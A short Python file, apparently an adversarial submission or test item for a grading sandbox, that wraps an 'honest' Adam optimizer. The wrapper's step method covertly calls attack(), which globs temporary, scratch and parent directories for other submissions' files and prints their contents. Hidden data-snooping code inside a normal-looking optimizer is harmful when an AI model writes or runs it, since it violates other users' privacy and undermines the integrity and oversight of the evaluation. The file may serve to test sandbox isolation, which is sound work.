"""Looks for other submissions and for what they leave in temporary folders."""

import glob
import os
from scratch.honest import SGD, clip_grad_norm_  # noqa: F401 - the honest part
from scratch.honest import Adam as Honest

EXPECT = "passed"
POINTS = 4

def attack():
    found = []
    for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/scratch/*", "../*", "../*/*", "/dev/shm/*"):
        found += [name for name in glob.glob(pattern) if os.path.isfile(name)]
    readable = []
    for name in found:
        try:
            readable.append(open(name, "rb").read(4096))
        except OSError:
            continue
    print(readable)


class Adam(Honest):
    def step(self):
        attack()
        super().step()
